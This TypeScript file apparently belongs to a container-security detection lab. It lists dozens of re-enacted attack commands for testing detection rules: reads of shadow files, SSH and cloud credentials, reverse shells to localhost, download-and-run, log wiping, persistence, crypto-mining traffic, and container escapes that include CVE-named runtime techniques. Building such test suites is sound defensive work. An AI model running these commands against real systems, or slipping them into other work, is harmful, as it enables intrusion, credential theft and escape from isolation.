/**
 * Attacks as they are carried out in containers, re-enacted by us: each does the same calls in the same order, to a harmless end. `at`
 * says in which container of the laboratory. What a rule has to see is the act, not its success.
 */
export interface Act {
  readonly name: string;
  readonly at: 'plain' | 'privileged' | 'host-pid';
  readonly script: string;
}

const python = (code: string, before = '') => `${before}python3 - <<'PYTHON'\n${code}\nPYTHON\n`;
const call = (number: number, ...args: readonly (string | number)[]) =>
  python(`import ctypes; c = ctypes.CDLL(None, use_errno=True); print(c.syscall(${[number, ...args].join(', ')}))`);

export const attacks: readonly Act[] = [
  // Secrets
  { name: 'read /etc/shadow', at: 'plain', script: 'cat /etc/shadow' },
  { name: 'read /etc/shadow from a program', at: 'plain', script: python("open('/etc/shadow').read()") },
  {
    name: 'look for private keys',
    at: 'plain',
    script: 'find /root -name id_rsa; grep -r "BEGIN RSA PRIVATE KEY" /root',
  },
  {
    name: 'look for AWS credentials',
    at: 'plain',
    script: 'grep aws_secret_access_key /root/.aws/credentials; find / -xdev -name ".aws" -maxdepth 3',
  },
  { name: 'read an SSH key', at: 'plain', script: 'cat /root/.ssh/id_rsa' },
  {
    name: 'read a service account token',
    at: 'plain',
    script: 'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
  },
  { name: 'read the environment of another process', at: 'plain', script: 'cat /proc/1/environ' },
  { name: 'ask the metadata service', at: 'plain', script: 'curl -s -m 1 http://169.254.169.254/latest/meta-data/' },
  { name: 'link over a secret file', at: 'plain', script: 'ln -s /etc/shadow /tmp/link' },
  { name: 'hard link to a secret file', at: 'plain', script: 'ln /etc/shadow /root/hard' },
  { name: 'keyctl', at: 'plain', script: call(250, 6, -3, 0, 0, 0) },
  // Programs that did not come with the image
  { name: 'run a dropped program', at: 'plain', script: 'cp /bin/ls /tmp/dropped && /tmp/dropped /' },
  {
    name: 'run from shared memory',
    at: 'privileged',
    script: 'mount -o remount,exec /dev/shm; cp /bin/ls /dev/shm/dropped && /dev/shm/dropped /',
  },
  {
    name: 'run from memory only',
    at: 'plain',
    script: python(
      "import os\nfd = os.memfd_create('x')\nos.write(fd, open('/bin/true', 'rb').read())\nos.execve(f'/proc/self/fd/{fd}', ['x'], {})",
    ),
  },
  { name: 'run a hidden program', at: 'plain', script: 'mkdir -p /tmp/.x && cp /bin/id /tmp/.x/.y && /tmp/.x/.y' },
  {
    name: 'download and run',
    at: 'plain',
    script: 'curl -s http://127.0.0.1:8000/script.sh -o /tmp/script.sh; chmod +x /tmp/script.sh; /tmp/script.sh',
  },
  { name: 'decode and run', at: 'plain', script: 'echo aWQK | base64 -d | sh' },
  {
    name: 'use the package manager',
    at: 'plain',
    script: 'apt-get update -o Acquire::Retries=0 -o Acquire::http::Timeout=1 || true',
  },
  { name: 'write a program below /usr/bin', at: 'plain', script: 'cp /bin/true /usr/bin/backdoor' },
  { name: 'set the setuid bit', at: 'plain', script: 'cp /bin/bash /tmp/rootsh && chmod u+s /tmp/rootsh' },
  {
    name: 'preload a library into everything',
    at: 'plain',
    script: 'touch /etc/ld.so.preload && echo "" > /etc/ld.so.preload; rm /etc/ld.so.preload',
  },
  { name: 'make a file below /dev', at: 'plain', script: 'touch /dev/.hidden' },
  // Shells
  {
    name: 'reverse shell of bash',
    at: 'plain',
    script: "timeout 2 bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' || true",
  },
  {
    name: 'reverse shell of Python',
    at: 'plain',
    script: python(
      "import socket, os, subprocess\ns = socket.create_connection(('127.0.0.1', 4444))\n[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\nsubprocess.call(['/bin/sh', '-c', 'id'])",
      'timeout 2 ',
    ),
  },
  {
    name: 'reverse shell through a pipe and nc',
    at: 'plain',
    script:
      'rm -f /tmp/f; mkfifo /tmp/f; (timeout 2 sh -c "cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f") || true',
  },
  { name: 'scan with nc', at: 'plain', script: 'nc -z -w1 127.0.0.1 22 23 80 || true' },
  {
    name: 'copy out with scp',
    at: 'plain',
    script: 'timeout 2 scp -o BatchMode=yes -o ConnectTimeout=1 /etc/passwd root@127.0.0.1:/tmp/ || true',
  },
  {
    name: 'SSH to an unusual port',
    at: 'plain',
    script: 'timeout 2 ssh -o BatchMode=yes -o ConnectTimeout=1 -p 4444 root@10.1.2.3 || true',
  },
  // Traces
  { name: 'empty a log', at: 'plain', script: 'echo x > /var/log/auth.log; : > /var/log/auth.log' },
  { name: 'remove the shell history', at: 'plain', script: 'touch /root/.bash_history; rm /root/.bash_history' },
  { name: 'shred a file', at: 'plain', script: 'echo x > /tmp/secret; shred -u /tmp/secret' },
  // Persistence
  { name: 'a cron job', at: 'plain', script: 'echo "* * * * * root id" > /etc/cron.d/job' },
  { name: 'a line in .bashrc', at: 'plain', script: 'echo "id" >> /root/.bashrc' },
  { name: 'an authorized key', at: 'plain', script: 'echo "ssh-ed25519 AAAA x" >> /root/.ssh/authorized_keys' },
  { name: 'a second root user', at: 'plain', script: 'echo "toor:x:0:0::/root:/bin/sh" >> /etc/passwd' },
  { name: 'useradd', at: 'plain', script: 'useradd mallory' },
  // Mining
  {
    name: 'Stratum on the wire',
    at: 'plain',
    script: python(
      'import socket\ns = socket.create_connection((\'127.0.0.1\', 3333))\ns.sendall(b\'{"id": 1, "method": "mining.subscribe", "params": ["worker/1.0"]}\\n\')\ns.sendall(b\'{"id": 2, "method": "mining.authorize", "params": ["wallet", "x"]}\\n\')',
    ),
  },
  {
    name: 'a known miner',
    at: 'plain',
    script:
      'cp /bin/true /tmp/xmrig; /tmp/xmrig -o stratum+tcp://127.0.0.1:3333 -u wallet --algo rx/0 --donate-level 1',
  },
  {
    name: 'the name of a mining pool',
    at: 'plain',
    script: python(
      "import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nq = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + b''.join(bytes([len(p)]) + p for p in (b'pool', b'supportxmr', b'com')) + b'\\x00\\x00\\x01\\x00\\x01'\nu.sendto(q, ('127.0.0.1', 53))",
    ),
  },
  // The kernel
  {
    name: 'ptrace against debuggers',
    at: 'plain',
    script: python('import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)'),
  },
  {
    name: 'ptrace of another process',
    at: 'privileged',
    script: python(
      'import ctypes, os; ctypes.CDLL(None).ptrace(16, int(os.environ["P"]), 0, 0)',
      'sleep 1 & P=$! ',
    ).replace('P=$! ', '\nexport P=$!\n'),
  },
  {
    name: 'write into another process',
    at: 'privileged',
    script: python(
      'import ctypes, os, time\nb = ctypes.create_string_buffer(8)\npid = os.fork()\nif pid == 0: time.sleep(0.5); os._exit(0)\nclass V(ctypes.Structure): _fields_ = [("a", ctypes.c_void_p), ("n", ctypes.c_size_t)]\nv = V(ctypes.addressof(b), 8)\nctypes.CDLL(None).process_vm_writev(pid, ctypes.byref(v), 1, ctypes.byref(v), 1, 0)',
    ),
  },
  { name: 'userfaultfd', at: 'privileged', script: call(323, 0) },
  {
    name: 'io_uring',
    at: 'privileged',
    script: python('import ctypes; b = ctypes.create_string_buffer(256); ctypes.CDLL(None).syscall(425, 4, b)'),
  },
  {
    name: 'perf_event_open',
    at: 'privileged',
    script: python(
      'import ctypes, struct; b = ctypes.create_string_buffer(struct.pack("IIQ", 1, 128, 0), 128); print(ctypes.CDLL(None).syscall(298, b, 0, -1, -1, 0))',
    ),
  },
  { name: 'kexec', at: 'privileged', script: call(246, 0, 99999, 0, 0) },
  {
    name: 'open a file by its handle',
    at: 'privileged',
    script: python(
      "import ctypes, os\nfd = os.open('/', 0)\nb = ctypes.create_string_buffer(b'\\x08\\0\\0\\0\\x01\\0\\0\\0\\x02\\0\\0\\0\\0\\0\\0\\0', 64)\nctypes.CDLL(None).syscall(304, fd, b, 0)",
    ),
  },
  { name: 'load a kernel module', at: 'privileged', script: call(313, 0, '""', 0) },
  {
    name: 'load a BPF program',
    at: 'privileged',
    script: python(
      'import ctypes, struct\ncode = ctypes.create_string_buffer(bytes.fromhex("b700000000000000" "9500000000000000"), 16)\nname = ctypes.create_string_buffer(b"GPL")\nb = ctypes.create_string_buffer(struct.pack("IIQQ", 1, 2, ctypes.addressof(code), ctypes.addressof(name)), 128)\nprint(ctypes.CDLL(None).syscall(321, 5, b, 128))',
    ),
  },
  {
    name: 'a packet socket',
    at: 'privileged',
    script: python('import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)'),
  },
  { name: 'a user namespace', at: 'privileged', script: 'unshare -Ur true' },
  // Escapes
  {
    name: 'core_pattern',
    at: 'privileged',
    script: 'cp=$(cat /proc/sys/kernel/core_pattern); echo "$cp" > /proc/sys/kernel/core_pattern',
  },
  {
    name: 'sysrq',
    at: 'privileged',
    script: python("import os; os.close(os.open('/proc/sysrq-trigger', os.O_WRONLY))"),
  },
  {
    name: 'release_agent',
    at: 'privileged',
    script:
      'mkdir -p /mnt/cg && mount -t cgroup -o freezer cgroup /mnt/cg && { a=$(cat /mnt/cg/release_agent); echo "$a" > /mnt/cg/release_agent; umount /mnt/cg; }',
  },
  {
    name: 'notify_on_release',
    at: 'privileged',
    script:
      'mkdir -p /mnt/cg && mount -t cgroup -o freezer cgroup /mnt/cg && { echo 0 > /mnt/cg/notify_on_release; umount /mnt/cg; }',
  },
  {
    name: 'binfmt_misc',
    at: 'privileged',
    script:
      'mount -t binfmt_misc none /proc/sys/fs/binfmt_misc 2>/dev/null; echo ":x:M::xx::/bin/true:" > /proc/sys/fs/binfmt_misc/register || true',
  },
  {
    name: 'mount in a container',
    at: 'privileged',
    script: 'mkdir -p /mnt/t && mount -t tmpfs none /mnt/t && umount /mnt/t',
  },
  { name: 'a block device', at: 'privileged', script: 'mknod /tmp/disk b 8 0' },
  {
    name: 'read the disk of the host',
    at: 'privileged',
    script: 'for d in /dev/vda /dev/sda /dev/nvme0n1 /dev/xvda; do head -c 1 $d; done > /dev/null 2>&1; true',
  },
  { name: 'debugfs', at: 'privileged', script: 'cp /bin/true /tmp/debugfs; PATH=/tmp:$PATH debugfs /dev/vda' },
  { name: 'the memory of the kernel', at: 'privileged', script: 'head -c 1 /proc/kcore > /dev/null' },
  {
    name: 'enter the namespaces of another container',
    at: 'host-pid',
    script: "nsenter -t $(pgrep -o -f 'sleep infinity') -m -u true",
  },
  {
    name: 'the file system of the host through /proc',
    at: 'host-pid',
    script: 'ls /proc/1/root/etc > /dev/null; cat /proc/1/root/etc/hostname',
  },
  {
    name: 'the socket of the container engine',
    at: 'privileged',
    script: python(
      "import os, socket\nos.makedirs('/run', exist_ok=True)\nl = socket.socket(socket.AF_UNIX); l.bind('/run/docker.sock'); l.listen()\ns = socket.socket(socket.AF_UNIX); s.connect('/run/docker.sock')\nos.unlink('/run/docker.sock')",
    ),
  },
  {
    name: 'overwrite the runtime (CVE-2019-5736)',
    at: 'privileged',
    script: python("import os\ntry: os.open('/proc/self/exe', os.O_WRONLY)\nexcept OSError: pass"),
  },
  {
    name: 'leaked descriptor of the runtime (CVE-2024-21626)',
    at: 'privileged',
    script: python(
      "import os\nfd = os.open('/', os.O_RDONLY)\nos.dup2(fd, 8)\nos.chdir('/proc/self/fd/8')\nos.open('/proc/self/fd/8/../../etc/passwd', os.O_RDONLY)",
    ),
  },
];
